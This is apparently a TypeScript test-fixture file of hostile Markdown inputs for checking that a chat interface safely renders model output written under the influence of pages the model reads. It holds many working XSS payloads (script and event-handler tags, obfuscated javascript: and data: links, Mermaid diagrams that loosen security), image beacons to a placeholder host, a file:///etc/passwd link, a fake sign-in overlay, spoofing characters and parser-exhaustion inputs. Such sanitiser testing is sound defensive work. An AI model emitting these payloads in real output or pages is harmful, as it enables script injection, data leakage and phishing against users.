/**
 * What a model may be made to say by whoever writes a page that it reads. `{T}` stands for the address of a server that must never be
 * asked for anything. A script that runs sets `window.pwned`, or asks that server.
 */
export type Hostile = {
  name: string
  text: string
  /** Must be readable at the end. */
  shows?: string
  /** It is drawn in a frame of its own, whose policy may have to refuse what it tries. */
  framed?: true
}

const many = (n: number, piece: string | ((i: number) => string)): string =>
  Array.from({ length: n }, (_, i) => (typeof piece === 'string' ? piece : piece(i))).join('')
const svg64 = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1"/>').toString('base64')
const fence = (language: string, ...lines: string[]): string => `\`\`\`${language}\n${lines.join('\n')}\n\`\`\``

/** HTML in every place in which Markdown may hold some. */
const HTML: Hostile[] = [
  ['a script', '<script>window.pwned=1</script>'],
  ['a script from elsewhere', '<script src={T}/s.js></script>'],
  ['an image that fails', '<img src=x onerror="window.pwned=1">'],
  ['an image with candidates', '<img srcset="{T}/1x 1x, {T}/2x 2x" src={T}/img loading=eager>'],
  ['a picture with sources', '<picture><source srcset={T}/source><img src={T}/img></picture>'],
  ['SVG that loads', '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>'],
  [
    'SVG that animates a link',
    '<svg><a><animate attributeName=href values=javascript:pwned=1 /><text y=9>x</text></a></svg>',
  ],
  ['SVG with an image', '<svg><image href={T}/svg width=9 height=9 /><use href="{T}/use#a"/></svg>'],
  ['MathML with a link', '<math href="javascript:window.pwned=1"><mi>x</mi></math>'],
  [
    'MathML that hides an image',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
  ],
  ['a frame', '<iframe src={T}/frame srcdoc="<script>parent.pwned=1</script>"></iframe>'],
  ['an object and an embed', '<object data={T}/object></object><embed src={T}/embed>'],
  [
    'a video with a poster',
    '<video poster={T}/poster autoplay src={T}/v onerror=window.pwned=1></video><audio src={T}/a autoplay>',
  ],
  ['a form that sends itself', '<form action={T}/form id=f><input autofocus onfocus="f.submit()"></form>'],
  ['a page that moves on', '<meta http-equiv=refresh content="0;url={T}/refresh">'],
  ['another base', '<base href={T}/>'],
  ['a style sheet', '<link rel=stylesheet href={T}/css><style>@import "{T}/import";</style>'],
  [
    'links ahead of time',
    '<link rel=prefetch href={T}/pre><link rel=dns-prefetch href={T}><link rel=preconnect href={T}><link rel=modulepreload href={T}/m>',
  ],
  ['a pinged link', '<a href="{T}/a" ping={T}/ping id=bait>x</a>'],
  ['details that open', '<details open ontoggle=window.pwned=1><summary>x</summary></details>'],
  ['a marquee and a body', '<marquee onstart=window.pwned=1>x</marquee><body onload=window.pwned=1>'],
  ['a dialog over everything', '<dialog open style="position:fixed;inset:0;z-index:9999">Sign in again</dialog>'],
  ['an overlay by style', '<div style="position:fixed;inset:0;background:url({T}/bg);z-index:99999">x</div>'],
  ['a comment that ends early', '<!--><img src=x onerror=window.pwned=1>-->'],
  ['a tag that is not closed', '<img src="{T}/dangling?'],
  ['a template and a slot', '<template><img src={T}/t></template><noscript><img src={T}/n></noscript>'],
  ['an event in a list of names', '<x onclick=window.pwned=1 id=body class="fixed inset-0 z-50 bg-page">x</x>'],
].map(([name, text]) => ({
  name: name!,
  text: `before\n\n${text}\n\nin a line ${text}\n\n- ${text}\n\n| ${text} | b |\n|---|---|\n| ${text} | c |\n`,
}))

const LINKS: Hostile[] = [
  ['javascript', 'javascript:window.pwned=1'],
  ['javascript in capitals', 'JaVaScRiPt:window.pwned=1'],
  ['javascript by entities', '&#106;&#x61;vascript&colon;window.pwned=1'],
  ['javascript by entities with zeros', '&#0000106avascript&#58;window.pwned=1'],
  ['javascript with a tab', 'java&Tab;script:window.pwned=1'],
  ['javascript with a line end', 'java&#10;script:window.pwned=1'],
  ['javascript behind a control character', '\u0001javascript:window.pwned=1'],
  ['javascript behind a space that is none', '\u00a0javascript:window.pwned=1'],
  ['javascript in full width', 'ｊavascript:window.pwned=1'],
  ['javascript in percents', 'javascript%3Awindow.pwned=1'],
  ['javascript with slashes', 'javascript://%0Awindow.pwned=1'],
  ['vbscript', 'vbscript:window.pwned=1'],
  ['a document as data', 'data:text/html,<script>opener.pwned=1</script>'],
  [
    'a document as data in base64',
    `data:text/html;base64,${Buffer.from('<script>opener.pwned=1</script>').toString('base64')}`,
  ],
  ['SVG as data', `data:image/svg+xml;base64,${svg64}`],
  ['a file', 'file:///etc/passwd'],
  ['a blob', 'blob:{T}/x'],
  ['this server', '/v1/sessions'],
  ['no protocol', '//evil.example/x'],
  ['a place on the page', '#/models'],
  ['the view of a source', 'view-source:{T}/'],
  ['a protocol of an app', 'ms-msdt:/id%20PCWDiagnostic'],
].map(([name, href]) => ({
  name: `a link to ${name!}`,
  text: `[one](${href}) [two](<${href}>) <${href}> [three][r] ![four](${href})\n\n[r]: ${href}\n\n[![five](${href})](${href})\n`,
}))

const BEACONS: Hostile[] = [
  { name: 'an image', text: '![a]({T}/a?secret) ![b](<{T}/b>) ![c][r]\n\n[r]: {T}/c "title"\n', shows: 'not loaded' },
  {
    name: 'an image in a link, a heading, a table, a list and a quote',
    text: '[![a]({T}/a)]({T}/l)\n\n# ![b]({T}/b)\n\n|![c]({T}/c)|\n|---|\n|![d]({T}/d)|\n\n- ![e]({T}/e)\n\n> ![f]({T}/f)\n',
  },
  { name: 'an image in a footnote', text: 'x[^1]\n\n[^1]: ![a]({T}/note)\n', shows: 'not loaded' },
  {
    name: 'an image whose address comes word by word',
    text: '![Loading the answer]({T}/slow?a=1&b=2&c=3&d=4&e=5 "with a title that is long enough to be cut")',
  },
  {
    name: 'a link that looks like an address of another',
    text: '[https://bank.example/login]({T}/login)',
    shows: '127.0.0.1',
  },
  {
    name: 'formulas that load and link',
    text: String.raw`$\href{javascript:window.pwned=1}{x}$ $\url{TARGET}$ $\includegraphics{TARGET/i.png}$ $\class{fixed inset-0}{x}$ $\style{background:url(TARGET)}{x}$ $\htmlData{a=b}{x}$ $\id{root}{x}$`.replaceAll(
      'TARGET',
      '{T}',
    ),
  },
  {
    name: 'a formula of HTML',
    text: String.raw`$$\text{<img src=x onerror=window.pwned=1>} \unicode{x3c} \mathrm{<script>}$$`,
  },
  {
    name: 'code that is HTML',
    text: fence('html', '<img src={T}/code onerror=window.pwned=1></code></pre><script>window.pwned=1</script>'),
  },
  { name: 'a language that is HTML', text: fence('"><img/src={T}/lang/onerror=window.pwned=1>', 'x') },
  { name: 'a file name that is a path', text: fence('sh title="../../../.bashrc"', 'x') },
]

const DIAGRAMS: Hostile[] = [
  {
    name: 'a diagram that calls back',
    text: fence(
      'mermaid',
      'flowchart LR',
      '  A-->B',
      '  click A call window.parent.pwned()',
      '  click B href "javascript:window.pwned=1"',
    ),
  },
  {
    name: 'a diagram that links',
    text: fence('mermaid', 'flowchart LR', '  A-->B', '  click A href "{T}/click" _blank', '  click B "{T}/b" "tip"'),
  },
  {
    name: 'a diagram that changes the settings',
    text: fence(
      'mermaid',
      '%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "*{background:url({T}/css)} @import url({T}/i);", "fontFamily": "x;}*{background:url({T}/font)}"}}%%',
      'flowchart LR',
      '  A["<img src={T}/label onerror=window.parent.pwned=1>"]-->B["<script>window.pwned=1</script>"]',
    ),
  },
  {
    name: 'a diagram with settings at its head',
    text: fence(
      'mermaid',
      '---',
      'config:',
      '  securityLevel: loose',
      '  htmlLabels: true',
      '  flowchart: {htmlLabels: true}',
      '---',
      'flowchart LR',
      '  A["<iframe src={T}/frame></iframe><svg onload=parent.pwned=1>"]',
    ),
  },
  {
    name: 'a diagram with styles',
    text: fence(
      'mermaid',
      'flowchart LR',
      '  A-->B',
      '  classDef x fill:url({T}/fill),background:url({T}/bg);',
      '  class A x',
      '  style B fill:red;background-image:url({T}/style)',
    ),
  },
  {
    name: 'a diagram with pictures',
    text: fence('mermaid', 'flowchart LR', '  A@{ img: "{T}/node.png", label: "x", h: 60 }', '  B@{ icon: "x:y" }'),
  },
  {
    name: 'a sequence with links',
    text: fence(
      'mermaid',
      'sequenceDiagram',
      '  participant A',
      '  link A: Home @ javascript:window.pwned=1',
      '  links A: {"x": "{T}/x"}',
      '  A->>A: <img src={T}/seq onerror=window.pwned=1>',
    ),
  },
  {
    name: 'a class diagram that calls back',
    text: fence(
      'mermaid',
      'classDiagram',
      '  class A',
      '  link A "{T}/class" "x"',
      '  callback A "parent.pwned=1"',
      '  click A call alert()',
    ),
  },
  {
    name: 'a Gantt chart that calls back',
    text: fence(
      'mermaid',
      'gantt',
      '  dateFormat YYYY-MM-DD',
      '  section A',
      '  x :cl1, 2024-01-01, 2d',
      '  click cl1 href "javascript:window.pwned=1"',
      '  click cl1 call alert()',
    ),
  },
  {
    name: 'a diagram that is none',
    text: fence('mermaid', 'flowchart LR', '  A--><<<{{{'),
    shows: 'could not be drawn',
  },
  {
    name: 'a diagram that is enormous',
    text: fence(
      'mermaid',
      'flowchart LR',
      many(900, (i) => `  A${i}-->B${i}\n`),
    ),
    shows: 'could not be drawn',
  },
  { name: 'a diagram that is not closed', text: '```mermaid\nflowchart LR\n  A-->B', shows: 'A-->B' },
]

const SHAPES: Hostile[] = [
  {
    name: 'a table of 1,000 columns',
    text: `|${many(1000, 'a|')}\n|${many(1000, '-|')}\n${many(12, `|${many(1000, 'b|')}\n`)}`,
  },
  { name: 'a table of 3,000 rows', text: `|a|b|\n|-|-|\n${many(3000, (i) => `|**${i}**|x|\n`)}` },
  { name: '10,000 quotes in each other', text: `${many(10_000, '>')} x\n\nthe end`, shows: 'the end' },
  { name: '10,000 quotes with spaces', text: `${many(10_000, '> ')}x\n\nthe end`, shows: 'the end' },
  { name: '10,000 lists in each other', text: `${many(10_000, '- ')}x\n\nthe end`, shows: 'the end' },
  { name: '10,000 numbers in each other', text: `${many(10_000, '1. ')}x\n\nthe end`, shows: 'the end' },
  { name: '300 lists, each deeper', text: many(300, (i) => `${' '.repeat(i * 2)}- x\n`) },
  { name: '10,000 emphases', text: `${many(10_000, '*a ')}\n\nthe end`, shows: 'the end' },
  {
    name: '10,000 emphases in each other',
    text: `${many(10_000, '*')}a${many(10_000, '*')}\n\nthe end`,
    shows: 'the end',
  },
  { name: '10,000 underscores', text: `${many(10_000, '__a')}\n\nthe end`, shows: 'the end' },
  { name: '10,000 brackets', text: `${many(10_000, '[')}x${many(10_000, ']')}\n\nthe end`, shows: 'the end' },
  { name: '10,000 links that never close', text: `${many(10_000, '[a](')}\n\nthe end`, shows: 'the end' },
  { name: '10,000 images that never close', text: `${many(10_000, '![')}\n\nthe end`, shows: 'the end' },
  { name: '10,000 backticks', text: `${many(5000, '`a``b')}\n\nthe end`, shows: 'the end' },
  { name: '10,000 tags that never close', text: `${many(10_000, '<a ')}\n\nthe end`, shows: 'the end' },
  { name: '10,000 dollars', text: `${many(10_000, '$a ')}\n\nthe end`, shows: 'the end' },
  { name: '10,000 definitions', text: many(10_000, (i) => `[a${i}]: https://x.example/${i}\n`) },
  { name: '3,000 footnotes', text: many(3000, (i) => `x[^${i}]\n\n[^${i}]: y\n\n`) },
  { name: 'a fence that never closes', text: `\`\`\`js\n${many(4000, 'const a = "b" // c\n')}`, shows: 'const a' },
  { name: 'a line of a megabyte', text: 'x'.repeat(1_000_000), shows: 'characters more' },
  { name: 'a line of a megabyte of words', text: 'word '.repeat(200_000), shows: 'characters more' },
  { name: 'code in a line of a megabyte', text: fence('js', 'x='.repeat(500_000)), shows: 'characters more' },
  {
    name: 'a formula that expands for ever',
    text: String.raw`$$\def\a{\a\a}\a$$ $$\def\b{xx}\newcommand{\c}{\b\b\b\b}\c\c\c\c$$`,
  },
  {
    name: 'a formula that is enormous',
    text: String.raw`$\rule{100000em}{100000em}$ $\hspace{99999em}x$ $\raisebox{9999em}{x}$ $\Huge\Huge x$ $\kern{-9999em}x$`,
  },
  { name: 'a formula of 2,000 braces', text: `$$${many(2000, '{')}x${many(2000, '}')}$$` },
  {
    name: 'a very long word in every place',
    text: `# ${'W'.repeat(900)}\n\n- ${'W'.repeat(900)}\n\n> ${'W'.repeat(900)}\n\n**${'W'.repeat(900)}** \`${'W'.repeat(900)}\` [${'W'.repeat(900)}](https://${'w'.repeat(60)}.example/${'w'.repeat(900)})\n\n|${'W'.repeat(900)}|\n|-|\n|${'W'.repeat(900)}|\n\n$${'W'.repeat(900)}$ x[^${'W'.repeat(50)}]\n\n[^${'W'.repeat(50)}]: ${'W'.repeat(900)}\n\n![${'W'.repeat(900)}]({T}/${'w'.repeat(900)})\n`,
  },
  { name: '3,000 marks above one letter', text: `x${'\u0301'.repeat(3000)} y` },
]

const LETTERS: Hostile[] = [
  {
    name: 'letters turned around',
    text: 'a \u202Eexe.fdp b\n\n**\u202Ex** [\u202Emoc.elpmaxe](https://evil.example/) `\u202Ex` \u2066y\n\nstill this way',
    shows: 'still this way',
  },
  {
    name: 'code turned around',
    text: fence('js', 'if (admin /*\u202E } \u2066if (user)\u2069 \u2066 begin */) {'),
    shows: '⟨U+202E⟩',
  },
  {
    name: 'a link with letters of another alphabet',
    text: '[аpple.com](https://аpple.com/) https://аррӏе.com/x',
    shows: 'xn--',
  },
  {
    name: 'a link with a name in front of its host',
    text: '[x](https://bank.example@evil.example/)',
    shows: 'evil.example',
  },
  { name: 'letters without width', text: 'pass\u200Bword \uFEFF\u2060x `rm\u200B -rf`', shows: '⟨U+200B⟩' },
  {
    name: 'commands to a terminal',
    text: `\u001B[2J\u001B]8;;{T}\u0007x\u001B]8;;\u0007 \u009B31m ${fence('', '\u001B[31mred')}`,
    shows: 'red',
  },
  { name: 'null bytes', text: 'a\u0000b <scr\u0000ipt>window.pwned=1</script> [x](java\u0000script:window.pwned=1)' },
  { name: 'halves of letters', text: 'a \uD83E b \uDD8A c \uD83E\uD83E' },
  {
    name: 'names of what every object has',
    text: '[a][__proto__] [b][constructor] x[^__proto__] y[^constructor]\n\n[__proto__]: https://x.example\n[^__proto__]: z\n\n```constructor\nx\n```\n\n```__proto__\nx\n```\n',
  },
]

export const HOSTILE: readonly Hostile[] = [
  ...HTML,
  ...LINKS,
  ...BEACONS,
  ...DIAGRAMS.map((one): Hostile => ({ ...one, framed: true })),
  ...SHAPES,
  ...LETTERS,
]
